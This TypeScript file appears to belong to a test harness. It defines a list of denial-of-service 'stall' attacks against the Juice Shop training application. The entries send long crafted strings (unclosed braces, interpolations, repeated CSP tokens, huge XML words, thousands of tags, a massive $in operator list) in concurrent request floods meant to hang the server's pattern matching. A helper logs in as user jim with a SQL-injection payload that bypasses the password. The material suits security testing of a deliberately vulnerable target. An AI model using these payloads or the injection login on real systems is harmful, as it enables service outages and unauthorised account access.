import { createClient } from '../../support/client.ts';
import { multipartBody, multipartType } from '../../support/multipart.ts';
import type { Stall, StallTarget } from './stall.ts';

const linear = 'patterns and loops that read each character once';
const form = { 'content-type': 'application/x-www-form-urlencoded' };

/** Builds a string of so many repetitions, scaled down where asked. */
function many(text: string, count: number, { scale }: StallTarget): string {
  return text.repeat(Math.round(count * scale));
}

/** Sends so many requests at the same time. */
async function atOnce(count: number, ask: () => Promise<unknown>): Promise<void> {
  await Promise.all(Array.from({ length: count }, ask));
}

async function jim({ url }: StallTarget): Promise<string> {
  return createClient(url).login("jim@juice-sh.op'--", 'x');
}

async function upload(target: StallTarget, path: string, name: string, text: string): Promise<void> {
  const type = path === '/rest/memories' ? 'image/jpeg' : 'application/xml';
  const file = { field: path === '/rest/memories' ? 'image' : 'file', fileName: name, type, content: text };
  const headers = { 'content-type': multipartType };
  await createClient(target.url).post(path, multipartBody(file), { headers, token: await jim(target) });
}

/** Attempts to make a pattern or a loop work on a long string forever. */
export const patternStalls: readonly Stall[] = [
  {
    cause: 'a pattern over long text',
    through: 'product description',
    title: 'unclosed braces, which the translation of every product list scans',
    measure: linear,
    harm: 'silence',
    attack: async (target) => {
      const client = createClient(target.url);
      for (const braces of [many('{{{', 30_000, target), '{{{'.repeat(3000)]) {
        await client.put('/api/Products/1', { description: braces });
        await client.get('/rest/products/search?q=');
      }
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'error page',
    title: 'an error whose message looks like a line of its stack, with a path of slashes',
    measure: linear,
    harm: 'silence',
    controlScale: 0.2,
    attack: async (target) => {
      const operator = `$\n    at ${many('/', 20_000, target)}${many('0', 20_000, target)}(/A:0:0`;
      await createClient(target.url).patch('/rest/products/reviews', { id: { [operator]: 1 }, message: 'x' });
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'review selector',
    title: 'a list of thousands of values, each compared with each review',
    measure: 'a limit on comparisons for each selector',
    harm: 'silence',
    attack: async (target) => {
      const client = createClient(target.url);
      for (let round = 0; round < 100; round += 1) {
        const written = Array.from({ length: 8 }, () =>
          client.put('/rest/products/1/reviews', { message: 'x', author: 'me' }),
        );
        await Promise.all(written);
      }
      const $in = Array.from({ length: 14_000 }, (_, index) => index.toString(36));
      const token = await jim(target);
      await atOnce(4, () => client.patch('/rest/products/reviews', { id: { $in }, message: 'x' }, { token }));
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'user name',
    title: 'unclosed interpolations',
    measure: linear,
    harm: 'silence',
    attack: async (target) => {
      const cookie = await jim(target);
      const client = createClient(target.url);
      for (const name of [many('#{', 45_000, target), '#{'.repeat(5000)]) {
        await client.post('/profile', `username=${name.replaceAll('#', '%23')}\n`, { headers: form, cookie });
        await client.get('/profile', { cookie });
      }
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'address of a picture',
    title: 'a policy that begins thousands of times',
    measure: linear,
    harm: 'silence',
    attack: async (target) => {
      const cookie = await jim(target);
      const imageUrl = `imageUrl=${many(';script-src', 8_000, target)}`;
      const client = createClient(target.url);
      await atOnce(4, () => client.post('/profile/image/url', imageUrl, { headers: form, cookie }));
      await client.get('/profile', { cookie });
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'invoice in XML',
    title: 'one long word where the fields of an account line are expected',
    measure: linear,
    harm: 'silence',
    attack: (target) => upload(target, '/file-upload', 'invoice.xml', `<a>${many('a', 95_000, target)}</a>`),
  },
  {
    cause: 'a pattern over long text',
    through: 'name of a photo',
    title: 'dots and spaces that do not end the name',
    measure: linear,
    harm: 'silence',
    attack: (target) => upload(target, '/rest/memories', `${many('. ', 40_000, target)}x`, many('. ', 40_000, target)),
  },
  {
    cause: 'a pattern over long text',
    through: 'feedback',
    title: 'thousands of unclosed tags, and as many closing tags of others',
    measure: 'a limit on tags for each string that is sanitised',
    harm: 'silence',
    attack: async (target) => {
      const client = createClient(target.url);
      const { captchaId, answer } = (await client.get('/rest/captcha')).json();
      const comment = many('<a></b>', 14_000, target);
      await atOnce(8, () => client.post('/api/Feedbacks', { comment, rating: 1, captchaId, captcha: answer }));
    },
  },
  {
    cause: 'a pattern over long text',
    through: 'chatbot',
    title: 'a question that almost matches the names of many products',
    measure: 'a limit on comparisons for each question',
    harm: 'silence',
    attack: async (target) => {
      const token = await jim(target);
      const client = createClient(target.url);
      const name = 'ab'.repeat(100);
      for (let round = 0; round < 20; round += 1) {
        const made = Array.from({ length: 10 }, () => client.post('/api/Products', { name, price: 1 }, { token }));
        await Promise.all(made);
      }
      const query = `How much is ${'ba c'.repeat(50)}?`;
      await client.post('/rest/chatbot/respond', { action: 'setname', query: 'Jim' }, { token });
      await client.post('/rest/chatbot/respond', { action: 'query', query }, { token });
    },
  },
];
